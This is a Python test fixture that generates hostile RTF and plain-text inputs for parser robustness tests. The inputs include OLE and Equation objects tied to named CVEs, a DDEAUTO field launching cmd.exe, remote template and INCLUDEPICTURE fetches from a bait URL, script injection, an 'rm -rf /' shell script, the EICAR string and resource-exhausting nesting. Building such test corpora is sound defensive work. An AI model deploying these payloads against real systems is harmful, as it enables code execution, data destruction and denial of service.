# SPDX-License-Identifier: EUPL-1.2
"""RTF and plain texts that carry objects, fields, depth or another file."""

# ruff: noqa: E501  (an attack reads on one line)

from __future__ import annotations

from typing import Final

from tests.hostile.corpus.bait import Bait
from tests.hostile.corpus.markup import ACT

OLE: Final = "d0cf11e0a1b11ae1" + "00" * 500


def rtf(bait: Bait) -> dict[str, bytes]:
    """Every RTF, by name. Source: RTF 1.9.1; CVE-2017-11882, CVE-2023-21716."""
    url = bait.url
    made = {
        "object": rf"{{\rtf1 {{\object\objemb{{\*\objclass Equation.3}}{{\*\objdata {OLE}}}}}x}}",
        "object-linked": rf"{{\rtf1 {{\object\objautlink\objupdate{{\*\objdata {OLE}}}}}x}}",
        "object-package": rf"{{\rtf1 {{\object{{\*\objclass Package}}{{\*\objdata {OLE}}}}}x}}",
        "field-link": rf'{{\rtf1 {{\field{{\*\fldinst HYPERLINK "{url}/h"}}{{\fldrslt x}}}}}}',
        "field-include": rf'{{\rtf1 {{\field{{\*\fldinst INCLUDEPICTURE "{url}/i" \\d}}{{\fldrslt x}}}}}}',
        "field-dde": r'{\rtf1 {\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"}{\fldrslt x}}}',
        "field-file": rf'{{\rtf1 {{\field{{\*\fldinst INCLUDETEXT "{bait.file}"}}{{\fldrslt x}}}}}}',
        "template": rf"{{\rtf1 {{\*\template {url}/t.dotm}}x}}",
        "fonts-many": r"{\rtf1{\fonttbl" + r"{\f0 a;}" * 40_000 + "}x}",
        "font-number": r"{\rtf1{\fonttbl{\f99999999999999999999 a;}}x}",
        "deep": r"{\rtf1 " + "{" * 100_000 + "x" + "}" * 100_000 + "}",
        "deep-open": r"{\rtf1 " + "{" * 100_000,
        "closed-often": r"{\rtf1 x" + "}" * 100_000,
        "bin": r"{\rtf1 {\*\blob\bin2147483647 x}}",
        "bin-negative": r"{\rtf1 \bin-2147483648 x}",
        "unicode": r"{\rtf1\uc2147483647 \u99999?\u-99999?\u55296?\u0?x}",
        "unicode-skip": r"{\rtf1 " + r"\uc99999\u233" * 5000 + "x}",
        "hex": r"{\rtf1 \'zz\'e\'ff\'00x}",
        "words-long": r"{\rtf1 \\" + "a" * 200_000 + " x}",
        "word-letters": r"{\rtf1 " + "\\" + "a" * 200_000 + " x}",
        "digits-long": r"{\rtf1 \b" + "9" * 200_000 + " x}",
        "picture": r"{\rtf1 {\pict\pngblip\picw30000\pich30000 89504e47" + "00" * 1000 + "}x}",
        "script": rf"{{\rtf1 <script>{ACT}</script>}}",
        "html": f"<html><script>{ACT}</script>",
        "codepage": r"{\rtf1\ansicpg99999 \'e9x}",
        "codepage-7": r"{\rtf1\ansicpg65000 +ADw-script+AD4-x}",
        "nothing": r"{\rtf1}",
        "head": r"{\rt",
    }  # fmt: skip
    return {name: text.encode("latin-1", "replace") for name, text in made.items()}


def plain(bait: Bait) -> dict[str, bytes]:
    """Texts that are none, or are something else."""
    script = f"<script>{ACT}</script>"
    return {
        "script": script.encode(),
        "html": f"<!DOCTYPE html><html><img src={bait.url}/i>{script}".encode(),
        "utf-16": script.encode("utf-16"),
        "utf-7": b"+ADw-script+AD4-x",
        "utf-8-cut": b"abc\xc3",
        "nul": b"a\0b",
        "controls": bytes(range(32)) * 10,
        "escapes": b"\x1b]0;x\x07\x1b[31m\x9b31m",
        "bidi": "a\u202eb\u2066c".encode(),
        "line-long": b"a" * 4_000_000,
        "lines-many": b"\n" * 4_000_000,
        "executable": b"MZ" + bytes(1000),
        "elf": b"\x7fELF" + bytes(1000),
        "zip": b"PK\x03\x04" + bytes(100),
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "eicar": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        "combining": ("a" + "\u0301" * 100_000).encode(),
        "nothing": b"",
    }
